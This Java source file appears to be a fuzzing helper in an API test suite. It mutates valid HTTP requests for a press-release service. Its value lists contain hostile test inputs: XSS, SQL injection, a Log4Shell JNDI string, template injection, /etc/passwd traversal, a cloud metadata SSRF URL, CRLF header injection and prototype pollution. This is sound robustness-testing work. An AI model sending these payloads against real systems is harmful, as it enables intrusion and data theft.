package press.communique.journey;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Makes of a good request one that is wrong in a way that somebody hostile, careless or broken would think of. */
final class Mutations {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Values for a place in a JSON document, as they are written there. */
    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "0",
            "-1",
            "1.5",
            "1e400",
            "-0",
            "9223372036854775808",
            "1".repeat(39),
            "1".repeat(60),
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\uffff\"",
            "\"\\u202e\"",
            "\"" + "x".repeat(20_000) + "\"",
            "\"<script>alert(1)</script>\"",
            "\"' OR 1=1 --\"",
            "\"${jndi:ldap://example.org/a}\"",
            "\"{{7*7}}\"",
            "\"../../etc/passwd\"",
            "\"javascript:alert(1)\"",
            "\"http://169.254.169.254/\"",
            "\"%n%s%x\"",
            "\"\\r\\nBcc: other@example.org\"",
            "\"2026-02-30T00:00:00Z\"",
            "\"+999999999-01-01T00:00:00Z\"",
            "\"01ARZ3NDEKTSV4RRFFQ69G5FAV\"",
            "\"İıſK\"",
            "\"é\"",
            "\"👩‍👩‍👧\"",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "[{}]",
            "{\"en\":null}",
            "{\"en\":{}}",
            "{\"\":\"\"}",
            "{\"xx-yy\":\"x\"}",
            "{\"__proto__\":{}}",
            "[".repeat(30) + "]".repeat(30),
            "[".repeat(5_000) + "]".repeat(5_000));

    private static final List<String> BODIES = List.of(
            "",
            " ",
            "{",
            "}",
            "[",
            "nul",
            "NaN",
            "{\"a\":}",
            "{'a':1}",
            "{\"a\":1,}",
            "{} {}",
            "\u0000",
            "\uFEFF{}",
            "<xml/>",
            "a=b",
            "[]",
            "null",
            "0",
            "\"x\"",
            "{}",
            "{\"type\":\"news-item\",\"type\":\"speech\"}");

    private static final List<String> IDS = List.of(
            "01ARZ3NDEKTSV4RRFFQ69G5FAV",
            "0",
            "-1",
            "1e3",
            "99999999999999999999",
            "null",
            "undefined",
            "%7Bid%7D",
            "%00",
            "%2e%2e",
            "..%2f..%2fetc",
            "a%2Fb",
            "%5c",
            "%F0%9F%92%A9",
            "%ff",
            "POST%231",
            "%27%20OR%201%3D1",
            "%3Cscript%3E",
            "%0d%0aX-Evil:1",
            "x".repeat(1_500),
            "01arz3ndektsv4rrffq69g5fav",
            "*",
            "@",
            "%25",
            ";a=b");

    private static final List<String> QUERIES = List.of(
            "limit=0",
            "limit=101",
            "limit=-1",
            "limit=1e2",
            "limit=",
            "limit=%00",
            "limit=99999999999999999999",
            "limit=1&limit=2",
            "cursor=",
            "cursor=%00",
            "cursor=!!!",
            "cursor=MDFBUlozTkRFS1RTVjRSUkZGUTY5RzVGQVY",
            "cursor=LTE",
            "cursor=" + "A".repeat(3_000),
            "state=live",
            "state=%00",
            "type=%3Cscript%3E",
            "topic=",
            "language=xx",
            "q=%25%25",
            "q=" + "x".repeat(3_000),
            "q=%E2%80%AE",
            "from=0",
            "from=-1",
            "from=x",
            "from=99999999999999999999",
            "open=maybe",
            "open=true&open=false",
            "dryRun=yes",
            "dryRun=true",
            "token=",
            "token=x.y.z",
            "token=" + "A".repeat(2_000),
            "token=%00",
            "token=a&token=b",
            "=",
            "&&&",
            "%00=%00");

    private static final List<String[]> HEADERS = List.of(
            new String[] {"Content-Type", "text/plain"},
            new String[] {"Content-Type", "application/json; charset=utf-16"},
            new String[] {"Content-Type", "application/x-www-form-urlencoded"},
            new String[] {"Content-Type", "multipart/form-data; boundary=x"},
            new String[] {"Content-Type", "application/JSON;;;"},
            new String[] {"Content-Type", "\u00ff/\u00ff"},
            new String[] {"Content-Encoding", "gzip"},
            new String[] {"If-Match", "*"},
            new String[] {"If-Match", "W/\"1\""},
            new String[] {"If-Match", "\"1\", \"2\""},
            new String[] {"If-Match", "1"},
            new String[] {"If-Match", ""},
            new String[] {"If-Match", "\"99999999999999999999\""},
            new String[] {"If-Match", "\"" + "9".repeat(3_000) + "\""},
            new String[] {"Idempotency-Key", ""},
            new String[] {"Idempotency-Key", "k".repeat(255)},
            new String[] {"Idempotency-Key", "k".repeat(256)},
            new String[] {"Idempotency-Key", "\u00e9\u00ff"},
            new String[] {"Idempotency-Key", "the-same-for-all"},
            new String[] {"Authorization", "Bearer x.y.z"},
            new String[] {"Authorization", "Basic YTpi"},
            new String[] {"Authorization", "Bearer"},
            new String[] {"Accept", "application/xml"},
            new String[] {"Accept", "text/html"},
            new String[] {"Accept-Language", "*;q=9, \u00ff"},
            new String[] {"X-HTTP-Method-Override", "DELETE"},
            new String[] {"X-Forwarded-For", "' OR 1=1"},
            new String[] {"Cookie", "a=".repeat(900)});

    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "LINK", "PROPFIND");

    private final Random random;

    Mutations(long seed) {
        this.random = new Random(seed);
    }

    /** The call with one to three things wrong about it. */
    Call of(Call good, String template) {
        Call call = good;
        int times = 1 + random.nextInt(3);
        for (int i = 0; i < times; i++) {
            call = switch (random.nextInt(12)) {
                case 0 -> call.method(pick(METHODS));
                case 1 -> call.path(oddId(call.path(), template));
                case 2 -> call.path(call.path().split("\\?")[0] + "?" + pick(QUERIES));
                case 3 -> call.path(call.path() + (call.path().contains("?") ? "&" : "?") + pick(QUERIES));
                case 4 -> {
                    String[] header = pick(HEADERS);
                    yield call.header(header[0], header[1]);
                }
                case 5 -> call.body(pick(BODIES));
                case 6 -> call.body(broken(call.body()));
                default -> call.body(changed(call.body()));
            };
        }
        return call;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Another id, or a path that goes on or lacks something. */
    private String oddId(String path, String template) {
        if (template.contains("{")) {
            String odd = template;
            while (odd.contains("{")) {
                odd = odd.replaceFirst("\\{[^}]+}", random.nextInt(3) == 0 ? "1" : pick(IDS));
            }
            return odd;
        }
        return path.split("\\?")[0] + pick(List.of("/", "//", "/x", "/%2e%2e/site", ";x", ".json", "%20"));
    }

    /** As text: cut off, doubled, or with a character that does not belong. */
    private String broken(String body) {
        if (body == null || body.isEmpty()) {
            return pick(BODIES);
        }
        int at = random.nextInt(body.length());
        return switch (random.nextInt(4)) {
            case 0 -> body.substring(0, at);
            case 1 -> body + body;
            case 2 ->
                body.substring(0, at) + pick(List.of("\u0000", "\"", "\\", "}", ",", "\u2028")) + body.substring(at);
            default -> body.substring(0, at) + body.substring(Math.min(body.length(), at + 1 + random.nextInt(5)));
        };
    }

    /** As JSON: at some place a value of another kind, a field less or a field more. */
    private String changed(String body) {
        try {
            JsonNode json = JSON.readTree(body == null ? "{}" : body);
            List<JsonNode> containers = containers(json, new ArrayList<>());
            if (containers.isEmpty()) {
                return pick(VALUES);
            }
            JsonNode container = pick(containers);
            String marker = "@@" + random.nextInt() + "@@";
            if (container instanceof ObjectNode object) {
                List<String> names = new ArrayList<>();
                object.fieldNames().forEachRemaining(names::add);
                if (names.isEmpty() || random.nextInt(5) == 0) {
                    object.put(pick(List.of("x", "id", "createdBy", "state", "__proto__", "", "\u0000")), marker);
                } else if (random.nextInt(4) == 0) {
                    object.remove(pick(names));
                } else {
                    object.put(pick(names), marker);
                }
            } else if (container instanceof ArrayNode array) {
                array.insert(array.isEmpty() ? 0 : random.nextInt(array.size()), marker);
            }
            return json.toString().replace("\"" + marker + "\"", pick(VALUES));
        } catch (JsonProcessingException form) {
            return broken(body);
        }
    }

    private static List<JsonNode> containers(JsonNode node, List<JsonNode> found) {
        if (node.isContainerNode()) {
            found.add(node);
            node.forEach(child -> containers(child, found));
        }
        return found;
    }
}
